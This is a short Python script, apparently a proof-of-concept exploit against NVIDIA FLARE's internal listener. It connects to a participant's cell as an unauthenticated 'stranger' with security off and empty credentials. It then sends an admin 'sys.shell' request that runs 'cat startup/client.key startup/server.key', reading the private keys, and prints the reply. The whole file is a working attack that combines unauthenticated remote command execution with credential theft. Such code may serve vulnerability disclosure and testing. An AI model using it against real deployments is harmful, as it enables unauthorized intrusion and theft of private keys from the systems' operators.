"""A stranger at NVFLARE's internal listener: stranger.py ADDRESS PORT PARTICIPANT; prints what comes back."""

import os
import sys
import threading
import time

from nvflare.fuel.f3.cellnet.cell import Cell  # type: ignore[import-untyped]
from nvflare.fuel.f3.message import Message  # type: ignore[import-untyped]
from nvflare.private import admin_defs  # type: ignore[import-untyped]
from nvflare.private.fed.utils.fed_utils import fobs_initialize  # type: ignore[import-untyped]

address, port, target = sys.argv[1:]
fobs_initialize()
cell = Cell(
    fqcn=f"{target}.stranger",
    root_url="tcp://localhost:1",
    secure=False,
    credentials={},
    create_internal_listener=False,
    parent_url=f"tcp://{address}:{port}",
)
cell.core_cell.start()
time.sleep(2)


def ask() -> None:
    """Have a shell command run by the participant."""
    message = Message({}, admin_defs.Message("sys.shell", "cat startup/client.key startup/server.key"))
    answer = cell.send_request(channel="admin", topic="x", target=target, request=message, timeout=6)
    print("answered:", getattr(answer.payload, "body", answer.payload), flush=True)


asking = threading.Thread(target=ask, daemon=True)
asking.start()
asking.join(12)
os._exit(0)
